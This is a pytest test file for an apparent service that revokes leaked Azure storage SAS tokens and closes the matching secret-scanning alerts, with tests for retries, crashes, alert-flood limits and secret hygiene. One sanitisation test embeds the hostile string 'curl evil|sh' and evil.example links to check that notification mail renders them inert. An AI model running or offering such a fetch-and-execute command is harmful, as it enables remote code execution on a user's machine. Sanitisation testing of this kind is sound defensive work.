"""Alerts of other tools, driven in process: from report to closing, through failures and crashes."""

from dataclasses import replace
from datetime import timedelta
from urllib.parse import quote, urlsplit

import azure.functions as func
import msgspec
import pytest

from local.network.faults import Effect
from local.reporters import reports
from local.reporters.reports import Posted
from local.tenant.model import Account
from local.tenant.senders import (
    AZURE_DEVOPS_PROJECT,
    AZURE_DEVOPS_REPOSITORY,
    AzureDevOpsAlert,
    GitHubAlert,
)
from shared.domain import named_alerts
from shared.domain.alert import AlertReference, AlertSource
from shared.domain.finding import Finding
from shared.domain.named_alerts import MOST_WAITING
from shared.domain.revocation import Revocation
from shared.domain.states import Reason, State
from shared.followup.briefing.build import brief
from shared.persistence import alert_queue, step_leases
from shared.persistence.alert_queue import AlertMessage
from shared.persistence.queues import Message
from tests.support.asgi import Credential
from tests.support.containment import rotated
from tests.support.deployment import forms
from tests.support.driver import OWNER, Crashed, Driver, Lifetime, found, report
from tests.support.harmless import Page, check_inert, check_text
from tests.support.leaks import account_sas, blob_sas
from tests.support.samples import NOW

PATCH = "PATCH https://api.github.com"


@pytest.fixture
async def account(driver: Driver) -> Account:
    return await driver.account(tags={"sasquash-owner": OWNER})


@pytest.fixture
async def leak(account: Account) -> str:
    """A token of the account's first key, as it is before any rotation."""
    return account_sas(account.name, account.keys["key1"])


def made(
    driver: Driver, account: Account, *, source: str = "github", key: str = "key1", text: str | None = None
) -> Posted:
    """A report about a leak, by default a new one of that key, and its alert."""
    model, entra = driver.cloud.model, driver.cloud.entra
    leaked = text if text is not None else account_sas(account.name, account.keys[key])
    return reports.make(model, entra, source=source, text=leaked)


def alert_of(driver: Driver) -> tuple[AlertReference, GitHubAlert]:
    kept = driver.cloud.model.alerts.github[-1]
    return AlertReference(AlertSource.GITHUB, kept.repository, str(kept.number)), kept


def request(posted: Posted) -> func.HttpRequest:
    return func.HttpRequest(
        method="POST",
        url=f"https://sasquash/api/intake/{posted.source}",
        headers={name.lower(): value for name, value in posted.headers.items()}
        | {"content-length": str(len(posted.body))},
        route_params={"source": posted.source},
        body=posted.body,
    )


def published(driver: Driver, account: Account) -> list[str]:
    """The ids of the findings that the intake has published about an account."""
    events = driver.cloud.model.events
    return [e["id"] for e in events if account.name in str(e.get("data")) and "/intake/" in str(e.get("source"))]


async def proven(driver: Driver, account: Account, leak: str) -> tuple[Finding, GitHubAlert]:
    """A leak with an alert, revoked; the follow-up has not run yet."""
    made(driver, account, text=leak)
    reference, kept = alert_of(driver)
    finding = replace(found(leak, source="github"), alert=reference)
    await driver.app().fast_path.ingest.receive(report(finding))
    return finding, kept


async def followed(driver: Driver, finding: Finding) -> Revocation:
    await driver.app().background.follow_up.run(Message(finding.fingerprint))
    return await driver.record(finding.fingerprint)


# --- reading


async def test_alert_is_read_at_once_and_nothing_is_left_in_the_queue(driver: Driver, account: Account) -> None:
    answer = await driver.app().http.intake.receive(request(made(driver, account)))

    assert answer.status_code == 202
    assert len(published(driver, account)) == 1
    assert driver.requests("DELETE https://sasquashstate.queue.core.windows.net/intake/messages/")


@pytest.mark.parametrize(
    "call", ["/installation", "/access_tokens", "secret-scanning/alerts/", "/locations", "/git/blobs"]
)
async def test_whatever_call_fails_the_queue_reads_it_again(driver: Driver, account: Account, call: str) -> None:
    driver.fault(call, status=502, times=3)
    answer = await driver.app().http.intake.receive(request(made(driver, account)))
    assert (answer.status_code, published(driver, account)) == (202, [])

    driver.cloud.faults.clear()
    message = AlertMessage(alert_of(driver)[0], driver.clock())
    await driver.app().http.alert_reader.resume(message)

    assert len(published(driver, account)) == 1


@pytest.mark.parametrize("carried_out", [False, True])
async def test_intake_crash_at_any_call_loses_nothing(driver: Driver, account: Account, *, carried_out: bool) -> None:
    posted = made(driver, account)
    reference, _ = alert_of(driver)
    for number in range(1, 30):
        before = len(published(driver, account))
        life = Lifetime(ends_at=number, carried_out=carried_out)
        try:
            await driver.app(life).http.intake.receive(request(posted))
        except Crashed:
            durable = driver.requests("POST https://sasquashstate.queue.core.windows.net/intake/messages")
            if durable or len(published(driver, account)) > before:
                continue  # the queue has it, or the topic
            assert number <= 2  # nothing is lost by then: the reporter gets no response
        else:
            assert number > 5
            break
    await driver.app().http.alert_reader.resume(AlertMessage(reference, driver.clock()))
    assert set(published(driver, account)) == {published(driver, account)[0]}


async def test_message_in_the_queue_names_the_alert_and_nothing_else(driver: Driver, account: Account) -> None:
    driver.fault("api.github.com", status=503, times=None)
    made(driver, account)
    reference, _ = alert_of(driver)
    await driver.app().http.alert_reader.take([reference])

    client = driver.app().clients.queue("intake")
    texts = [message.content async for message in client.receive_messages(visibility_timeout=1)]
    messages = [alert_queue.read(text.encode()) for text in texts]
    assert reference in [message.alert for message in messages]
    assert all("sig=" not in str(message) for message in messages)


async def test_alert_that_can_t_be_read_becomes_a_failed_record_an_incident_and_a_mail(
    driver: Driver, account: Account
) -> None:
    await driver.no_floods()
    made(driver, account)
    reference, kept = alert_of(driver)
    kept.secret = ""  # GitHub hides it
    await driver.app().http.alert_reader.resume(AlertMessage(reference, driver.clock()))

    message = AlertMessage(reference, driver.clock(), 0, "GitHub hides it from this app.")
    text = msgspec.json.encode(message)
    for _ in range(2):
        await driver.app().background.poison_messages.unread(text)
    fingerprints = {s.message.fingerprint for s in driver.sent if s.queue == "follow-up"}
    [record] = [await driver.record(fingerprint) for fingerprint in fingerprints]
    before = len(driver.cloud.model.mails)
    await driver.app().background.follow_up.run(Message(record.fingerprint))

    assert (record.state, record.reason) == (State.FAILED, Reason.UNREAD)
    assert f"{reference} was reported" in record.detail
    assert len(driver.shared_incidents(await driver.record(record.fingerprint))) == 1
    await driver.app().background.summary_mail.send()
    assert "ALERT NOT READABLE" in driver.cloud.model.mails[before].subject


async def test_failure_of_an_unreadable_alert_is_no_command_in_the_mail_about_it(driver: Driver) -> None:
    """The text of an exception may quote what a service or a stranger said."""
    await driver.no_floods()
    failure = "Reading failed: `curl evil|sh`, see https://evil.example or <a href=//evil.example>this</a>."
    message = AlertMessage(AlertReference(AlertSource.GITHUB, "contoso/x", "77"), driver.clock(), 0, failure)
    await driver.app().background.poison_messages.unread(msgspec.json.encode(message))
    [fingerprint] = {s.message.fingerprint for s in driver.sent if s.queue == "follow-up"}
    before = len(driver.cloud.model.mails)

    await driver.app().background.follow_up.run(Message(fingerprint))
    await driver.app().background.summary_mail.send()

    mail, [incident] = driver.cloud.model.mails[before], driver.shared_incidents(await driver.record(fingerprint))
    page = Page(mail.body)
    assert "curl evil|sh" in "".join(page.text)
    assert page.code == []
    assert [link for link in page.links if not link.endswith(f"#/record/{fingerprint}")] == []
    for text in incident.fields.values():
        check_inert(text)
    for line in await driver.history(fingerprint):
        check_text(line.what)


async def test_foreign_message_in_the_poison_queue_is_reported(driver: Driver) -> None:
    await driver.app().background.poison_messages.unread(b"none of ours")
    [fingerprint] = {s.message.fingerprint for s in driver.sent if s.queue == "follow-up"}

    assert (await driver.record(fingerprint)).reason is Reason.CRASHED


async def test_report_while_event_grid_is_down_is_to_be_sent_again(driver: Driver, account: Account) -> None:
    driver.fault("eventgrid.azure.net", status=503, times=None)
    posted = made(driver, account, source="wiz")
    answer = await driver.app().http.intake.receive(request(posted))
    driver.cloud.faults.clear()

    assert (answer.status_code, published(driver, account)) == (503, [])
    assert (await driver.app().http.intake.receive(request(posted))).status_code == 202


@pytest.mark.parametrize("source", reports.SOURCES)
async def test_intake_apart_needs_no_right_on_any_account_and_reaches_none(
    driver: Driver, account: Account, source: str
) -> None:
    intake = driver.app(
        credential=Credential(driver.cloud.entra, driver.cloud.model.identities["intake"])
    ).http.intake
    answer = await intake.receive(request(made(driver, account, source=source)))

    assert (answer.status_code, len(published(driver, account))) == (202, 1)
    hosts = {urlsplit(call.url).hostname for call in driver.requests() if call.identity == "intake"}
    assert hosts <= {
        "sasquash.westeurope-1.eventgrid.azure.net",
        "sasquashstate.queue.core.windows.net",
        "graph.microsoft.com",
        "advsec.dev.azure.com",
    }
    assert not driver.requests(f"{account.name}.")
    assert not driver.requests("management.azure.com")
    assert account.rotations == []


# --- closing


async def test_alert_is_closed_once_the_leak_is_verified_revoked(driver: Driver, account: Account, leak: str) -> None:
    finding, kept = await proven(driver, account, leak)
    assert kept.state == "open"
    record = await followed(driver, finding)

    assert record.state is State.CLOSED
    assert (kept.state, kept.resolution) == ("resolved", "revoked")
    assert [closed.alert for closed in record.closed_alerts] == [finding.alert]


async def test_each_message_more_closes_nothing_again(driver: Driver, account: Account, leak: str) -> None:
    finding, _ = await proven(driver, account, leak)
    for _ in range(3):
        await followed(driver, finding)

    assert len(driver.requests(PATCH)) == 1


@pytest.mark.parametrize("effect", [Effect.STATUS, Effect.RESET])
async def test_failing_closing_keeps_the_record_open_and_delays_nothing_else(
    driver: Driver, account: Account, leak: str, effect: Effect
) -> None:
    driver.fault("api.github.com", effect, status=503, times=None)
    finding, kept = await proven(driver, account, leak)
    record = await followed(driver, finding)

    assert (record.state, kept.state) == (State.PROVEN, "open")
    assert record.filed is not None
    assert len(driver.mails(account.name)) == 1
    driver.cloud.faults.clear()
    assert (await followed(driver, finding)).state is State.CLOSED
    assert kept.state == "resolved"


async def test_missing_right_of_the_app_is_a_failure_of_this_step_alone(
    driver: Driver, account: Account, leak: str
) -> None:
    driver.fault(PATCH, status=403, times=None)
    finding, _ = await proven(driver, account, leak)
    record = await followed(driver, finding)

    assert record.state is State.PROVEN
    assert driver.messages("follow-up", finding.fingerprint)[-1] == (1.0, 1)


async def test_alert_that_is_gone_keeps_nothing_open(driver: Driver, account: Account, leak: str) -> None:
    finding, _ = await proven(driver, account, leak)
    driver.cloud.model.alerts.github.pop()
    record = await followed(driver, finding)

    assert record.state is State.CLOSED
    assert "does not exist any more" in record.closed_alerts[0].said
    assert not record.closed_alerts[0].closed


async def test_alert_of_a_tool_that_is_not_set_up_is_left_open(driver: Driver, account: Account, leak: str) -> None:
    finding, kept = await proven(driver, account, leak)
    await driver.app(github_closing_app="").background.follow_up.run(Message(finding.fingerprint))

    record = await driver.record(finding.fingerprint)
    assert record.state is State.CLOSED
    assert [closed.closed for closed in record.closed_alerts] == [False]
    assert kept.state == "open"


@pytest.mark.parametrize("late", [State.PROVEN, State.CLOSED])
async def test_second_alert_about_a_revoked_leak_is_closed_too(
    driver: Driver, account: Account, leak: str, late: State
) -> None:
    finding, _ = await proven(driver, account, leak)
    if late is State.CLOSED:
        await followed(driver, finding)
    made(driver, account, text=leak)
    reference, second = alert_of(driver)
    driver.sent.clear()
    await driver.app().fast_path.ingest.receive(report(replace(finding, alert=reference)))
    if late is State.CLOSED:
        assert driver.messages("follow-up", finding.fingerprint)
    record = await followed(driver, finding)

    assert second.state == "resolved"
    assert len(record.closed_alerts) == 2
    assert rotated(account) == ["key1"]


async def test_leak_that_ended_with_another_ones_key_is_closed_where_it_was_reported(
    driver: Driver, account: Account
) -> None:
    text = blob_sas(account.name, account.keys["key1"])
    made(driver, account, text=text)
    reference, kept = alert_of(driver)
    covered = replace(found(text), alert=reference)
    driver.fault("/listKeys", status=503, times=3)
    await driver.app().fast_path.ingest.receive(report(covered))  # it waits, and the next one's key ends it, too
    driver.cool_down()
    await driver.app().fast_path.ingest.receive(report(found(account_sas(account.name, account.keys["key1"]))))
    record = await followed(driver, covered)

    assert record.reason is Reason.COVERED
    assert kept.state == "resolved"


@pytest.mark.parametrize("carried_out", [False, True])
async def test_follow_up_crash_at_any_call_still_closes_the_alert(
    driver: Driver, account: Account, leak: str, monkeypatch: pytest.MonkeyPatch, *, carried_out: bool
) -> None:
    monkeypatch.setattr(step_leases, "LEASE_TIME", timedelta(0))  # that of the crashed instance expires at once
    finding, kept = await proven(driver, account, leak)
    for number in range(1, 80):
        life = Lifetime(ends_at=number, carried_out=carried_out, counting="api.github.com")
        try:
            await driver.app(life).background.follow_up.run(Message(finding.fingerprint))
        except Crashed:
            continue
        break
    record = await driver.record(finding.fingerprint)

    assert record.state is State.CLOSED
    assert (kept.state, len(record.closed_alerts)) == ("resolved", 1)


# --- only for its own leak


def other_alert(driver: Driver, account: Account, *, source: str = "github") -> AlertReference:
    """A live alert about something else: a leak of the account's other key."""
    made(driver, account, source=source, key="key2")
    alerts = driver.cloud.model.alerts
    match source:
        case "github":
            return alert_of(driver)[0]
        case "azure-devops":
            place = f"contoso/{AZURE_DEVOPS_PROJECT}/{AZURE_DEVOPS_REPOSITORY}"
            return AlertReference(AlertSource.AZURE_DEVOPS, place, str(alerts.azure_devops[-1].number))
        case _:
            return AlertReference(AlertSource.DEFENDER, "", alerts.defender[-1].id)


def is_open(driver: Driver, alert: AlertReference) -> bool:
    """Whether the stand-in of the alert's service has it as it was made."""
    alerts = driver.cloud.model.alerts
    match alert.source:
        case AlertSource.GITHUB:
            [found] = [a for a in alerts.github if (a.repository, str(a.number)) == (alert.place, alert.alert)]
            return (found.state, found.comment) == ("open", None)
        case AlertSource.AZURE_DEVOPS:
            [hooked] = [a for a in alerts.azure_devops if str(a.number) == alert.alert]
            return (hooked.state, hooked.comment) == ("active", None)
        case AlertSource.DEFENDER:
            [seen] = [a for a in alerts.defender if a.id == alert.alert]
            return (seen.status, seen.comments) == ("new", [])


async def named(driver: Driver, finding: Finding, *alerts: AlertReference) -> None:
    """Report a leak again, with further alerts."""
    for alert in alerts:
        await driver.app().fast_path.ingest.receive(report(replace(finding, alert=alert)))


@pytest.mark.parametrize("source", ["github", "azure-devops", "defender"])
async def test_alert_of_another_leak_that_an_event_names_is_left_open(
    driver: Driver, account: Account, source: str
) -> None:
    """Anybody who may publish on the topic can name any alert."""
    victim = other_alert(driver, account, source=source)
    finding = replace(found(account_sas(account.name, account.keys["key1"])), alert=victim)
    await driver.app().fast_path.ingest.receive(report(finding))
    record = await followed(driver, finding)

    assert (record.state, rotated(account)) == (State.CLOSED, ["key1"])
    assert is_open(driver, victim)
    [left] = record.closed_alerts
    assert (left.alert, left.closed) == (victim, False)
    assert "was left open: it" in left.said
    assert left.said in [line.what for line in await driver.history(finding.fingerprint)]
    assert left.said in brief(record, now=driver.clock()).open_points
    assert not [call for call in driver.requests("PATCH ") if "alert" in call.url]


async def test_each_of_two_records_closes_only_its_own_of_the_alerts_that_both_name(
    driver: Driver, account: Account, leak: str
) -> None:
    first, own = await proven(driver, account, leak)
    another = await driver.account()
    other = account_sas(another.name, another.keys["key1"])
    made(driver, another, text=other)
    second, _ = alert_of(driver)
    await named(driver, first, second)
    later = replace(found(other), alert=second)
    assert first.alert is not None
    await followed(driver, first)
    assert (own.state, is_open(driver, second)) == ("resolved", True)

    await driver.app().fast_path.ingest.receive(report(later))
    await named(driver, later, first.alert)
    record = await followed(driver, later)

    assert not is_open(driver, second)
    assert {each.alert: each.closed for each in record.closed_alerts} == {second: True, first.alert: False}


@pytest.mark.parametrize(
    "stranger",
    [
        AlertReference(AlertSource.GITHUB, "fabrikam/x", "1"),
        AlertReference(AlertSource.GITHUB, "contoso/without-the-app", "1"),
        AlertReference(AlertSource.AZURE_DEVOPS, "fabrikam/x/y", "1"),
        AlertReference(AlertSource.DEFENDER, "", "no-such-alert"),
    ],
    ids=str,
)
async def test_alert_of_another_organization_is_left_open_and_holds_up_no_other(
    driver: Driver, account: Account, leak: str, stranger: AlertReference
) -> None:
    made(driver, account, text=leak)
    reference, kept = alert_of(driver)
    finding = replace(found(leak), alert=stranger)
    await driver.app().fast_path.ingest.receive(report(finding))
    await named(driver, finding, reference)
    record = await followed(driver, finding)

    assert (record.state, kept.state) == (State.CLOSED, "resolved")
    assert {each.alert: each.closed for each in record.closed_alerts} == {stranger: False, reference: True}


@pytest.mark.parametrize("change", ["another", "two", "hidden"])
async def test_alert_whose_secret_is_no_longer_the_leak_alone_is_left_open(
    driver: Driver, account: Account, leak: str, change: str
) -> None:
    finding, kept = await proven(driver, account, leak)
    other = account_sas(account.name, account.keys["key2"])
    kept.secret = {"another": other, "two": f"{kept.secret} {other}", "hidden": ""}[change]
    record = await followed(driver, finding)

    assert (record.state, kept.state, kept.comment) == (State.CLOSED, "open", None)
    assert [each.closed for each in record.closed_alerts] == [False]


async def test_alert_with_the_leak_in_another_encoding_is_closed(driver: Driver, account: Account, leak: str) -> None:
    finding, kept = await proven(driver, account, leak)
    kept.secret = quote(leak, safe="")
    record = await followed(driver, finding)

    assert (record.state, kept.state) == (State.CLOSED, "resolved")


GITHUB_ALERTS = "GET https://api.github.com/repos/contoso/robust-models/secret-scanning"
PLACES = 20 + MOST_WAITING  # of the alerts of later reports


def invented(number: int) -> AlertReference:
    return AlertReference(AlertSource.GITHUB, "fabrikam/made-up", str(number))


async def test_flood_of_alerts_is_checked_up_to_a_number_and_closes_none(
    driver: Driver, account: Account, leak: str
) -> None:
    finding, kept = await proven(driver, account, leak)
    victims = [other_alert(driver, account) for _ in range(PLACES + 5)]
    await named(driver, finding, *victims)
    record = await followed(driver, finding)

    assert (record.state, kept.state) == (State.CLOSED, "resolved")
    assert [victim for victim in victims if not is_open(driver, victim)] == []
    assert (len(record.closed_alerts), len(record.named_alerts.left_out)) == (20, 5)
    assert len(driver.requests(GITHUB_ALERTS)) == 1 + PLACES
    assert "5 more alerts were reported" in str(brief(record, now=driver.clock()).open_points)


async def test_alert_that_is_reported_beyond_what_is_shown_is_closed(
    driver: Driver, account: Account, leak: str
) -> None:
    finding = found(leak)
    await driver.app().fast_path.ingest.receive(report(finding))
    await named(driver, finding, *map(invented, range(1, 31)))
    made(driver, account, text=leak)
    reference, kept = alert_of(driver)
    await named(driver, finding, reference)
    record = await followed(driver, finding)

    assert (record.state, kept.state) == (State.CLOSED, "resolved")


async def test_alert_that_was_kept_out_by_invented_ones_is_closed_when_it_is_reported_again(
    driver: Driver, account: Account, leak: str
) -> None:
    finding = found(leak)
    await driver.app().fast_path.ingest.receive(report(finding))
    await named(driver, finding, *map(invented, range(1, PLACES + 1)))
    made(driver, account, text=leak)
    reference, kept = alert_of(driver)
    await named(driver, finding, reference)
    await followed(driver, finding)
    assert kept.state == "open"

    await named(driver, finding, reference)
    record = await followed(driver, finding)

    assert (kept.state, record.named_alerts.left_out) == ("resolved", ())


async def test_alerts_beyond_the_checks_of_a_day_wait_for_the_next_one(
    driver: Driver, account: Account, leak: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(named_alerts, "CHECKS_A_DAY", 2)
    finding, _ = await proven(driver, account, leak)
    victims = [other_alert(driver, account) for _ in range(3)]
    await named(driver, finding, *victims)
    for _ in range(3):
        record = await followed(driver, finding)
    assert (record.state, len(driver.requests(GITHUB_ALERTS))) == (State.PROVEN, 2)

    def yesterday(current: Revocation) -> Revocation:  # the stand-in of GitHub takes no token of tomorrow
        return replace(current, named_alerts=replace(current.named_alerts, since=NOW - timedelta(days=1)))

    await driver.app().fast_path.store.revocations.change(finding.fingerprint, yesterday, what="")
    await followed(driver, finding)
    assert len(driver.requests(GITHUB_ALERTS)) == 4


async def hooked_alert(driver: Driver, account: Account, leak: str, finding: Finding) -> AzureDevOpsAlert:
    """An alert of Azure DevOps about the leak, named by another report."""
    made(driver, account, source="azure-devops", text=leak)
    hooked = driver.cloud.model.alerts.azure_devops[-1]
    place = f"contoso/{AZURE_DEVOPS_PROJECT}/{AZURE_DEVOPS_REPOSITORY}"
    await named(driver, finding, AlertReference(AlertSource.AZURE_DEVOPS, place, str(hooked.number)))
    return hooked


async def test_service_that_is_down_holds_up_no_other_and_is_asked_until_it_answers(
    driver: Driver, account: Account, leak: str
) -> None:
    finding = found(leak)
    await driver.app().fast_path.ingest.receive(report(finding))
    hooked = await hooked_alert(driver, account, leak, finding)
    made(driver, account, text=leak)
    reference, kept = alert_of(driver)
    await named(driver, finding, reference)
    driver.fault("advsec.dev.azure.com", status=503, times=None)
    record = await followed(driver, finding)
    assert (record.state, hooked.state, kept.state) == (State.PROVEN, "active", "resolved")

    driver.clock.advance(hours=30)
    assert (await followed(driver, finding)).state is State.PROVEN
    driver.cloud.faults.clear()
    assert (await followed(driver, finding)).state is State.CLOSED
    assert hooked.state == "dismissed"


async def test_right_that_is_missing_for_a_day_leaves_the_alert_open_and_the_record_says_so(
    driver: Driver, account: Account, leak: str
) -> None:
    finding = found(leak)
    await driver.app().fast_path.ingest.receive(report(finding))
    hooked = await hooked_alert(driver, account, leak, finding)
    driver.fault("PATCH https://advsec.dev.azure.com", status=403, times=None)
    assert (await followed(driver, finding)).state is State.PROVEN
    driver.clock.advance(hours=25)
    record = await followed(driver, finding)

    assert (record.state, hooked.state) == (State.CLOSED, "active")
    [left] = record.closed_alerts
    assert not left.closed
    assert "the permission to dismiss alerts of the repository" in left.said


async def test_secret_of_an_alert_is_kept_nowhere(
    driver: Driver, account: Account, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level("DEBUG")
    victim = other_alert(driver, account)
    secret = driver.cloud.model.alerts.github[-1].secret
    finding = replace(found(account_sas(account.name, account.keys["key1"])), alert=victim)
    await driver.app().fast_path.ingest.receive(report(finding))
    record = await followed(driver, finding)

    texts = [caplog.text, repr(record), str(await driver.history(finding.fingerprint))]
    texts += [mail.body for mail in driver.mails(account.name)]
    texts += [str(incident.fields) for incident in driver.incidents(finding.fingerprint)]
    leaked = forms(secret.partition("sig=")[2].partition("&")[0])
    assert [text for text in texts if any(form in text.encode() for form in leaked)] == []


async def test_defender_alert_about_the_regenerated_key_is_resolved_and_a_later_one_is_not(
    driver: Driver, account: Account
) -> None:
    """Defender does not show the token: its account and key are compared, and when it was last seen."""
    made(driver, account, source="defender", key="key1")
    before = driver.cloud.model.alerts.defender[-1]
    driver.clock.advance(minutes=5)
    finding = found(account_sas(account.name, account.keys["key1"]))
    await named(driver, finding, AlertReference(AlertSource.DEFENDER, "", before.id))
    made(driver, account, source="defender", key="key1")
    later = driver.cloud.model.alerts.defender[-1]
    later.created_at = driver.clock() + timedelta(minutes=1)
    driver.clock.advance(minutes=10)
    await named(driver, finding, AlertReference(AlertSource.DEFENDER, "", later.id))
    record = await followed(driver, finding)

    assert (before.status, later.status) == ("resolved", "new")
    assert [each.closed for each in record.closed_alerts] == [True, False]


# --- evidence


async def test_evidence_asks_a_person_and_a_key_made_since_the_token_was_seen_answers_it(
    driver: Driver, account: Account
) -> None:
    made(driver, account, source="defender", key="key2")
    kept = driver.cloud.model.alerts.defender[-1]
    alert = AlertReference(AlertSource.DEFENDER, "", kept.id)
    [finding] = (await driver.app().http.alert_reader.take([alert]))[alert] or ()
    assert finding.evidence is not None
    await driver.app().fast_path.ingest.receive(report(finding))
    asked = await driver.record(finding.fingerprint)
    account.key_created["key2"] = driver.clock() + timedelta(minutes=5)
    driver.clock.advance(minutes=10)
    another_token = replace(finding.evidence, signature_sha256="cd" * 32)
    later = Finding.of_evidence(another_token, source="defender", url=None, detected_at=NOW, alert=finding.alert)
    await driver.app().fast_path.ingest.receive(report(later))

    assert (asked.state, account.rotations) == (State.AWAITING_APPROVAL, [])
    assert (await driver.record(later.fingerprint)).reason is Reason.COVERED
